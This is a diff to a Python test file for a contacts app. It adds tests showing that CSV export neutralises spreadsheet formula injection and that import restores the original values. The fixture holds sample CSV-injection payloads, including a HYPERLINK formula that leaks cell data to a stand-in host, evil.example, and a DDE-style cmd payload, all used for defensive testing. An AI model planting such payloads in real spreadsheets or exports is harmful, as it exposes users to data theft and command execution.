@@ -20,6 +20,8 @@ from rapport.contacts.importing import (
     contacts_export,
     contacts_import,
     read_csv_rows,
+    spreadsheet_safe,
+    unspreadsheet,
 )
 from rapport.contacts.models import (
     BusinessRelation,
@@ -61,10 +63,7 @@ def setup(series):
     sven = services.salesperson_create(code="SJ", name="Sven Janssen")
     services.salesperson_create(code="PB", name="Pieter Bakker")
     services.salesperson_create(code="EW", name="Emma Wright")
-    english = services.language_create(code="EN", name="English")
-    services.language_create(code="NL", name="Dutch")
-    for code, name in [("NL", "Netherlands"), ("BE", "Belgium"), ("GB", "United Kingdom")]:
-        services.code_table_create(model=Country, code=code, name=name)
+    english = Language.objects.get(code="EN")  # countries and languages: the migrations' data
     for model, codes in [
         (Territory, ["NORTH", "SOUTH"]),
         (MailingGroup, ["NEWS", "EVENTS", "XMAS"]),
@@ -657,6 +656,64 @@ def test_export_of_a_queryset(setup):
     import_rows([row(no="A1"), row(no="B1", city="Gent"), row(type="person", name="P", no="C1")])
     rows = list(contacts_export(queryset=Contact.objects.filter(city="Gent")))
     assert [r["no"] for r in rows] == ["B1"]
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "address_2": "'=already quoted once",
+    "city": "-2+3",
+    "phone_no": "+31 30 123 4567",
+    "fax_no": "''+31 double",
+    "post_code": "'plain",  # an apostrophe before no formula stays as it is
+}
+
+
+def test_export_neutralises_spreadsheet_formulas_and_import_gives_back_the_same_values(
+    setup, tmp_path
+):
+    import_rows([row(no="F1", **FORMULAS)])
+    import_rows([row(type="person", no="F2", company_no="F1", name="Pat", job_title="@Home")])
+    before = list(contacts_export())
+    assert {key: before[0][key] for key in FORMULAS} == FORMULAS
+    path = tmp_path / "export.csv"
+    call_command("export_contacts", "--output", str(path), stderr=io.StringIO())
+    with path.open(encoding="utf-8", newline="") as stream:
+        cells = list(csv.DictReader(stream))
+    assert {key: cells[0][key] for key in FORMULAS} == {
+        "name": "'" + FORMULAS["name"],
+        "address": "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "address_2": "''=already quoted once",
+        "city": "'-2+3",
+        "phone_no": "'+31 30 123 4567",
+        "fax_no": "'''+31 double",
+        "post_code": "'plain",
+    }
+    assert cells[1]["job_title"] == "'@Home"
+    formula_start = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for r in cells for cell in r.values() if cell.startswith(formula_start)]
+
+    Contact.objects.filter(type="person").delete()
+    Contact.objects.all().delete()
+    call_command("import_contacts", str(path), "--keep-blanks", stdout=io.StringIO())
+    assert list(contacts_export()) == before
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+2", "'=1+2"),
+        ("\tTab", "'\tTab"),
+        ("\rCR", "'\rCR"),
+        ("'-1", "''-1"),
+        ("'", "'"),
+        ("O'Brien", "O'Brien"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_cells_round_trip(value, cell):
+    assert spreadsheet_safe(value) == cell
+    assert unspreadsheet(cell) == value
 
 
 # --- The commands -----------------------------------------------------------------------------
